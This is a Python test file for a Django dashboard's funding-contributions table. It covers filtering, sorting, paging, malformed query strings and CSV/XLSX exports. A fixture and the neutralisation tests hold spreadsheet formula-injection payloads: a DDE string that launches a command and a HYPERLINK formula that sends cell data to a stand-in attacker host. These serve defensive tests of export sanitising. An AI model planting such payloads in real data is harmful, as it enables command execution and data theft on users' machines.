"""The contributions table: filters, sorting, paging, exports, and query strings that do not fit."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from funding.models import ContributionStatus
from funding.spreadsheets import neutralise
from tests.support.factories import ContributionFactory, OrganisationFactory, ProgrammeFactory
from tests.support.pages import get_in

pytestmark = pytest.mark.django_db
TABLE = "/dashboard/ai-fabriek-groningen/contributions/"


def body(response) -> bytes:
    """What a download gives: exports stream."""
    assert response.streaming
    return b"".join(response.streaming_content)


def csv_rows(response):
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


@pytest.fixture
def injected(aifabriek):
    return ContributionFactory(
        programme=aifabriek,
        key="injected",
        funder=OrganisationFactory(name="@evil funder"),
        instrument="+cmd|' /C calc'!A0",
        amount=Decimal("1234.50"),
        notes='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    )


def test_table_shows_amounts_in_the_languages_format(staff_client, aifabriek):
    assert "€70,000,000" in get_in(staff_client, TABLE, "en").content.decode()
    assert "€ 70.000.000" in get_in(staff_client, TABLE, "nl").content.decode()


def test_filter_by_status(staff_client, aifabriek):
    html = get_in(staff_client, TABLE + "?status=requested").content.decode()
    assert "Europese cofinancieringsaanvraag" in html
    assert "Nij Begun</td>" not in html


def test_filter_by_funder_and_instrument(staff_client, aifabriek):
    region = aifabriek.contributions.get(key="nij-begun").funder
    html = get_in(staff_client, f"{TABLE}?funder={region.pk}").content.decode()
    assert "(rows 1 to 1 of 1)" in html
    html = get_in(staff_client, TABLE + "?instrument=Economische+Agenda+Nij+Begun").content.decode()
    assert "(rows 1 to 1 of 1)" in html and "Groningen/Noord-Drenthe region" in table_of(html)


def test_search_notes(staff_client, aifabriek):
    html = get_in(staff_client, TABLE + "?notes=niet+toegekend").content.decode()
    assert "(rows 1 to 1 of 1)" in html and "European Union" in table_of(html)


def table_of(html: str) -> str:
    """The rows of the contributions table (the filter form above names every funder)."""
    return html.split("<tbody", 1)[1].split("</tbody>", 1)[0]


def test_sort_by_amount_ascending(staff_client, aifabriek):
    html = get_in(staff_client, TABLE + "?sort=amount").content.decode()
    assert html.index("€60,000,000") < html.index("€70,000,000")
    assert 'aria-sort="ascending"' in html


def test_paginates_by_25(staff_client):
    programme = ProgrammeFactory(slug="many")
    ContributionFactory.create_batch(30, programme=programme)
    url = "/dashboard/many/contributions/"
    assert "(rows 1 to 25 of 30)" in get_in(staff_client, url).content.decode()
    assert "(rows 26 to 30 of 30)" in get_in(staff_client, url + "?page=2").content.decode()


@pytest.mark.parametrize(
    "query, rows",
    [
        ("sort=nonsense", "(rows 1 to 3 of 3)"),
        ("sort=-notes,--amount,funder__secret", "(rows 1 to 3 of 3)"),
        ("page=abc", "(rows 1 to 3 of 3)"),
        ("page=99999", "(rows 1 to 3 of 3)"),
        ("page=-1", "(rows 1 to 3 of 3)"),
        ("page=" + "9" * 5000, "(rows 1 to 3 of 3)"),
        ("status=nonsense", "(rows 1 to 3 of 3)"),
        ("funder=abc", "(rows 1 to 3 of 3)"),
        ("funder=99999999999999999999999", "(rows 1 to 3 of 3)"),
        ("instrument=unknown", "(rows 1 to 3 of 3)"),
        ("notes=" + "x" * 10_000, "(rows 1 to 3 of 3)"),
        ("sort=" + "x" * 10_000, "(rows 1 to 3 of 3)"),
        ("export=pdf", "(rows 1 to 3 of 3)"),
        ("per_page=100000", "(rows 1 to 3 of 3)"),
    ],
)
def test_query_strings_that_do_not_fit_are_ignored(staff_client, aifabriek, query, rows):
    response = get_in(staff_client, f"{TABLE}?{query}")
    assert rows in response.content.decode()


def test_unapplied_filter_says_so(staff_client, aifabriek):
    html = get_in(staff_client, TABLE + "?status=nonsense").content.decode()
    assert "This filter is not applied." in html


@pytest.mark.parametrize("query", ["sort=nonsense", "page=abc", "page=99999", "x=" + "y" * 10_000])
@pytest.mark.parametrize("url", ["/dashboard/", "/dashboard/ai-fabriek-groningen/"])
def test_other_dashboards_ignore_query_strings_that_do_not_fit(staff_client, aifabriek, url, query):
    get_in(staff_client, f"{url}?{query}")


def test_csv_export_neutralises_formulas_and_keeps_amounts_plain(staff_client, injected):
    response = get_in(staff_client, TABLE + "?export=csv&notes=HYPERLINK")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        'attachment; filename="ai-fabriek-groningen-contributions-'
        in (response["Content-Disposition"])
    )
    header, row = csv_rows(response)
    record = dict(zip(header, row, strict=True))
    assert record["Notes"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert record["Funder"] == "'@evil funder"
    assert record["Instrument or budget line"] == "'+cmd|' /C calc'!A0"
    assert record["Amount"] == "1234.50"
    assert record["Disbursed"] == "0.00"


def test_csv_export_has_the_filtered_rows_in_the_table_order(staff_client, aifabriek):
    response = get_in(staff_client, TABLE + "?export=csv&status=committed&sort=amount")
    rows = csv_rows(response)[1:]
    # The names the English table shows.
    assert [(row[1], row[3]) for row in rows] == [
        ("Groningen/Noord-Drenthe region", "60000000.00"),
        ("Government of the Netherlands", "70000000.00"),
    ]


def test_csv_amounts_are_plain_numbers_in_dutch_too(staff_client, aifabriek):
    rows = csv_rows(get_in(staff_client, TABLE + "?export=csv", "nl"))
    # The rows stream after the view has returned; their labels are still in the page's language.
    assert rows[0][3] == "Bedrag"
    assert {row[5] for row in rows[1:]} == {"toegezegd", "aangevraagd"}
    assert sorted(row[3] for row in rows[1:]) == ["60000000.00", "70000000.00", "70000000.00"]
    assert "Europese cofinancieringsaanvraag" in {row[2] for row in rows[1:]}


def test_xlsx_export_opens_with_numbers_and_neutralised_text(staff_client, injected):
    response = get_in(staff_client, TABLE + "?export=xlsx&sort=amount")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(body(response))).active
    rows = list(sheet.iter_rows(values_only=True))
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[3] == "Amount"
    assert first["Amount"] == 1234.5
    assert isinstance(first["Amount"], float | int)
    assert first["Notes"].startswith("'=HYPERLINK(")
    assert first["Funder"] == "'@evil funder"
    assert sorted(row[3] for row in rows[2:]) == [60_000_000, 70_000_000, 70_000_000]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_export_neutralises_a_formula_behind_a_control_character(staff_client, aifabriek):
    ContributionFactory(programme=aifabriek, notes='\x01=HYPERLINK("http://example.org","x")')
    response = get_in(staff_client, TABLE + "?export=xlsx&notes=HYPERLINK")
    sheet = load_workbook(io.BytesIO(body(response))).active
    cell = sheet.cell(row=2, column=9)
    assert (cell.data_type, cell.value) == ("s", '\'=HYPERLINK("http://example.org","x")')


def test_xlsx_export_drops_control_characters_it_cannot_hold(staff_client, aifabriek):
    ContributionFactory(programme=aifabriek, notes="bell\x07 and \x0b tab")
    response = get_in(staff_client, TABLE + "?export=xlsx&notes=bell")
    sheet = load_workbook(io.BytesIO(body(response))).active
    assert sheet.cell(row=2, column=9).value == "bell and  tab"


@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+1", "'=1+1"),
        ("+31", "'+31"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =1+1", "' =1+1"),
        ("\x01=HYPERLINK(1)", "'\x01=HYPERLINK(1)"),
        ("plain", "plain"),
        ("a-b", "a-b"),
        (Decimal("-5.00"), Decimal("-5.00")),
    ],
)
def test_neutralise(value, safe):
    assert neutralise(value) == safe


def test_export_respects_status_filter(staff_client, aifabriek):
    ContributionFactory(programme=aifabriek, status=ContributionStatus.WITHDRAWN, key="gone")
    rows = csv_rows(get_in(staff_client, TABLE + "?export=csv&status=withdrawn"))
    assert [row[9] for row in rows[1:]] == ["gone"]


def test_the_row_count_stands_outside_the_scrolling_region(staff_client, aifabriek):
    """On a phone the table scrolls sideways; its row count must not scroll out of sight."""
    html = get_in(staff_client, TABLE).content.decode()
    region = html[html.index('<div class="table-scroll"') :]
    region = region[: region.index("</div>")]
    assert "(rows 1 to 3 of 3)" not in region
    assert (
        '<caption class="utrecht-table__caption">Contributions matching the filters</caption>'
        in (region)
    )
    assert 'aria-describedby="table-count"' in region
    assert '<p class="table-count muted" id="table-count">(rows 1 to 3 of 3)</p>' in html


def test_export_links_keep_the_filters_and_sort_and_drop_the_page(staff_client, aifabriek):
    """The links on the page, not typed query strings: they once rendered as `href="?"`."""
    from tests.support.link_walker import links_and_forms

    url = f"{TABLE}?status=committed&sort=amount&page=1"
    page = get_in(staff_client, url).content.decode()
    downloads = [link.url for link in links_and_forms(page, url) if link.download]
    assert downloads == [
        f"{TABLE}?status=committed&sort=amount&export=csv",
        f"{TABLE}?status=committed&sort=amount&export=xlsx",
    ]
    assert [row[1] for row in csv_rows(get_in(staff_client, downloads[0]))[1:]] == [
        "Groningen/Noord-Drenthe region",
        "Government of the Netherlands",
    ]
    xlsx = get_in(staff_client, downloads[1])
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    # Read to its end, as a browser saves it: a workbook is a zip file. That also closes it.
    assert body(xlsx).startswith(b"PK")


def test_rows_that_tie_on_the_sort_column_keep_one_order_across_pages_and_export(staff_client):
    programme = ProgrammeFactory(slug="ties")
    ContributionFactory.create_batch(30, programme=programme, amount=Decimal("1000.00"))
    table = "/dashboard/ties/contributions/?sort=amount"

    def keys_on(page):
        response = get_in(staff_client, f"{table}&page={page}")
        # Small tables often come back in one order anyway; the primary key makes sure.
        assert response.context["table"].data.data.query.order_by == ("amount", "pk")
        return [row.record.key for row in response.context["table"].page.object_list]

    shown = keys_on(1) + keys_on(2)
    exported = [row[-1] for row in csv_rows(get_in(staff_client, f"{table}&export=csv"))[1:]]
    assert len(set(shown)) == 30
    assert shown == exported


def test_the_cached_table_shows_an_edit_at_once(staff_client, aifabriek):
    before = get_in(staff_client, TABLE).content.decode()
    assert "€60,000,000" in before
    regional = aifabriek.contributions.get(amount=Decimal("60000000.00"))
    regional.amount = Decimal("61000000.00")
    regional.save()
    after = get_in(staff_client, TABLE).content.decode()
    assert "€61,000,000" in after
    assert "€60,000,000" not in after


def test_the_cached_table_is_rendered_per_language(staff_client, aifabriek):
    assert "€60,000,000" in get_in(staff_client, TABLE).content.decode()
    assert "€ 60.000.000" in get_in(staff_client, TABLE, language="nl").content.decode()
